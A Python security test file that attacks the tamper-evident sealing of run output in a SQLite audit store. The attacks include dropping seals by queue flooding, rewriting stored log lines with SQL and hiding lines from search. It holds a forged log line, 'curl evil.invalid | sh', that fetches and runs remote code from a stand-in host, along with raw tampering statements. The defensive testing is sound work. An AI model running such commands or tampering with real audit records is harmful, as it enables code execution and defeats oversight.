"""Review s14: attacks on run output sealing (store/output_seal.py).

Attacker model: someone who can write the SQLite file but has no HMAC key (as in
test_audit_tamper_attacks.py), sometimes helped by an agent that floods its own output. Each
test asserts the SECURE behaviour: it fails while the attack works.
"""

from __future__ import annotations

import sqlite3
import time
from collections.abc import Callable
from pathlib import Path

from store import audit, history
from store.db import open_db
from store.writer import StoreWriter
from tests.conftest import Daemon, needs_bwrap
from tests.store.conftest import run_sql, sealed_run_with_a_secret, verify_file

Make = Callable[..., StoreWriter]


def _shown(db_path: Path, run_id: str) -> list[str]:
    db = open_db(db_path, readonly=True)
    try:
        return [r["line"] for r in history.query_output(db, run_id)]
    finally:
        db.close()


def test_a_flood_that_fills_the_queue_cannot_leave_an_ended_run_unsealed(
        make_writer: Make, db_path: Path, key: bytes) -> None:
    """The seal goes through the same bounded queue as bulk lines (`_enqueue`): when an agent's
    flood has filled it as the run ends, the seal is dropped like a line (counted as a dropped
    row), `run.ended` is still chained, and nothing says the run was never sealed. Its output
    can then be rewritten and verify says ok."""
    w = make_writer(start=False, max_queue=50)
    for i in range(50):  # the agent's flood, still queued when the run ends
        w.record_output("r1", "out", f"flood {i}")
    w.start()
    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)",
             seal_output=True)  # RunManager._finish
    w.close()
    run_sql(db_path, "UPDATE output SET line = 'curl evil.invalid | sh' WHERE line = 'flood 3'")
    assert "curl evil.invalid | sh" in _shown(db_path, "r1")  # the attack changed what logs show
    result = verify_file(db_path, key)
    assert not result.ok, ("an ended run's output was rewritten and verify said ok: its seal was "
                           "dropped by the full queue and a missing seal is not a problem")


def test_an_old_style_prune_note_does_not_switch_off_every_later_seal(
        make_writer: Make, db_path: Path, key: bytes) -> None:
    """prune_cutoff() is infinity once any store.pruned note lacks older_than_ts (a history
    pruned by an earlier version): then EVERY sealed run is skipped, also runs that started
    long after that prune and that no prune could have touched. A rewrite of their output is
    never found."""
    w = make_writer()
    old = time.time() - 100 * 86400
    w.record("note", text="an old event", ts=old)
    w.flush()
    # What an earlier version wrote (with the key): a prune note without its cutoff.
    w.commit("store.pruned", actor="store", text="pruned 1 event", data={"pruned": 1})
    w.prune(old + 1)  # a real prune: a signed anchor, the events before it gone
    for i in range(4):  # a run long after every prune
        w.record_output("later", "out", f"line {i}")
    w.commit("run.ended", run_id="later", actor="daemon", text="exited (exit 0)", seal_output=True)
    w.close()
    assert verify_file(db_path, key).ok
    run_sql(db_path, "UPDATE output SET line = 'all tests passed' WHERE line = 'line 2'")
    result = verify_file(db_path, key)
    assert not result.ok and "run later" in (result.reason or ""), (
        "a run sealed after every prune is never checked once one old-style prune note exists")


def test_a_line_that_is_not_utf8_is_named_not_a_crash(make_writer: Make, db_path: Path,
                                                      key: bytes) -> None:
    """A line turned into bytes is named; the same bytes kept as TEXT (invalid UTF-8) should
    be named too, not make verify raise."""
    w = make_writer()
    for i in range(3):
        w.record_output("r1", "out", f"line {i}")
    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
    w.close()
    run_sql(db_path, "UPDATE output SET line = CAST(x'6c696e65ff31' AS TEXT) WHERE line = 'line 1'")
    try:
        result = verify_file(db_path, key)
    except Exception as exc:  # noqa: BLE001
        raise AssertionError(f"verify crashed instead of naming the run: {exc!r}") from exc
    assert not result.ok and "run r1" in (result.reason or ""), result


def test_a_run_sealed_twice_is_not_reported_as_tampered(make_writer: Make, db_path: Path,
                                                        key: bytes) -> None:
    """A second seal of a run (its end handled twice) forgets the digest: the second seal says
    0 lines, and verify then reports untouched output as tampered (a false alarm that teaches
    people to ignore verify)."""
    w = make_writer()
    for i in range(3):
        w.record_output("r1", "out", f"line {i}")
    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
    w.flush()
    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
    w.close()
    conn = sqlite3.connect(db_path)
    seals = conn.execute("SELECT data FROM events WHERE kind = 'run.ended'").fetchall()
    conn.close()
    result = verify_file(db_path, key)
    assert result.ok, (seals, result)


def test_search_cannot_be_made_to_hide_a_sealed_runs_line_while_verify_says_ok(
        make_writer: Make, db_path: Path, key: bytes) -> None:
    """The seal covers the `output` rows; `logs --search` goes through output_fts. Lowering the
    index's mark in `meta` below a sealed run's lines and deleting their index entries leaves
    an index that "holds exactly the rows up to its mark" (index_off, FTS5's integrity check
    over the view up to the mark), so verify says ok while a search of the run finds nothing.
    (The next writer start re-indexes from the mark; until then the line is hidden.) Now
    verify names rows past the mark older than a minute (integrity.unindexed): the run here
    ended five minutes ago."""
    sealed_run_with_a_secret(make_writer)
    db = open_db(db_path, readonly=True)
    assert history.query_output(db, "r1", search="id_ed25519"), "found before the attack"
    db.close()
    conn = sqlite3.connect(db_path, isolation_level=None)
    lo = conn.execute("SELECT min(id) FROM output WHERE run_id = 'r1'").fetchone()[0]
    conn.execute("BEGIN")
    for rid, line in conn.execute("SELECT id, line FROM output WHERE id >= ?", (lo,)).fetchall():
        conn.execute("INSERT INTO output_fts(output_fts, rowid, line) VALUES ('delete', ?, ?)",
                     (rid, line))
    conn.execute("UPDATE meta SET value = ? WHERE key = 'fts_output_upto'", (str(lo - 1),))
    conn.execute("COMMIT")
    conn.close()
    db = open_db(db_path, readonly=True)
    hidden = not history.query_output(db, "r1", search="id_ed25519")
    db.close()
    result = verify_file(db_path, key)
    assert not (hidden and result.ok), (
        "a search of a sealed run no longer finds its line and verify says ok")


def test_a_batch_rolled_back_digests_nothing(make_writer: Make, db_path: Path, key: bytes,
                                             monkeypatch) -> None:  # noqa: ANN001
    """(Held in review s14: kept as a guard.) A batch that fails before its COMMIT stores no
    line and moves no digest: the seal holds exactly what is stored."""
    real = audit.write_head
    failed = []

    def once(*a, **kw):  # noqa: ANN002, ANN003, ANN202
        if not failed:
            failed.append(1)
            raise sqlite3.OperationalError("disk I/O error (the review's)")
        return real(*a, **kw)

    w = make_writer()
    w.record_output("r1", "out", "stored first")
    w.flush()
    monkeypatch.setattr(audit, "write_head", once)
    w.record_output("r1", "out", "lost with its batch")
    w.record("note", text="makes the batch move the head")
    try:
        w.flush()  # its own call is in the failed batch
    except Exception:  # noqa: BLE001, S110
        pass
    assert failed and w.stats()["failed_batches"] == 1
    w.record_output("r1", "out", "stored last")
    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
    w.close()
    assert _shown(db_path, "r1") == ["stored first", "stored last"]
    assert verify_file(db_path, key).ok


@needs_bwrap
def test_an_agents_output_flood_does_not_leave_its_run_unsealed(daemon: Daemon,
                                                                 workspace: Path) -> None:
    """End to end: a real bwrap run floods its output up to its last line. The writer's queue
    is full when the run ends, so its seal is dropped with the bulk rows: `run.ended` is
    chained without its seal. Its stored output can then be rewritten and
    `pilothouse audit verify` says the history is intact. (Timing: the seal was dropped in
    most tries here, not all.)"""
    done = daemon.cli("run", "demo", "-w", str(workspace), "--wait", "--", "sh", "-c",
                      "yes x | head -n 1500000; echo the-last-line",
                      check=False)
    assert done.returncode == 0, done
    db = daemon.home / "data" / "pilothouse.db"
    conn = sqlite3.connect(db)
    run_id = conn.execute("SELECT run_id FROM events WHERE kind = 'run.ended' ORDER BY id DESC "
                          "LIMIT 1").fetchone()[0]
    sealed = conn.execute("SELECT count(*) FROM events WHERE kind = 'run.ended' AND run_id = ? "
                          "AND data LIKE '%\"output\":%'", (run_id,)).fetchone()[0]
    conn.close()
    run_sql(db, "UPDATE output SET line = 'all 212 tests passed' WHERE id = (SELECT max(id) FROM "
             "output WHERE run_id = ?)", (run_id,))
    found = daemon.cli("audit", "verify", check=False)
    assert sealed == 1 or found.returncode != 0, (
        f"run {run_id} ended unsealed (its seal dropped with the flood) and its edited output "
        f"passes verify: {found.stdout}{found.stderr}")


HELD = {
    "a line each moved between two sealed runs (counts kept)":
        "UPDATE output SET run_id = CASE run_id WHEN 'r1' THEN 'r2' ELSE 'r1' END "
        "WHERE line IN ('r1 line 1', 'r2 line 1')",
    "a line's NULL stream made empty": "UPDATE output SET stream = '' WHERE stream IS NULL",
    "a line's id moved past the run's others (reordered)":
        "UPDATE output SET id = (SELECT max(id) FROM output) + 1 WHERE line = 'r1 line 0'",
    "a line's time moved by one ulp":
        "UPDATE output SET ts = ts + (ts * 2.3e-16) WHERE line = 'r1 line 2'",
    "the seal's run id given to an extra line of the other run":
        "INSERT INTO output (run_id, ts, stream, line) SELECT 'r1', ts, stream, line FROM output "
        "WHERE line = 'r2 line 0'",
}


def test_held_tamperings_are_found(make_writer: Make, db_path: Path, key: bytes) -> None:
    """(Held in review s14: kept as guards.) Each of these is named by verify."""
    w = make_writer()
    now = time.time()
    for run in ("r1", "r2"):
        for i in range(4):
            w.record_output(run, None if i == 3 else "out", f"{run} line {i}", ts=now + i / 1e3)
    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
    w.commit("run.ended", run_id="r2", actor="daemon", text="exited (exit 0)", seal_output=True)
    w.close()
    assert verify_file(db_path, key).ok
    clean = db_path.read_bytes()
    missed = []
    for name, statement in HELD.items():
        db_path.write_bytes(clean)
        assert verify_file(db_path, key).ok, name
        run_sql(db_path, statement)
        if verify_file(db_path, key).ok:
            missed.append(name)
    assert not missed, missed
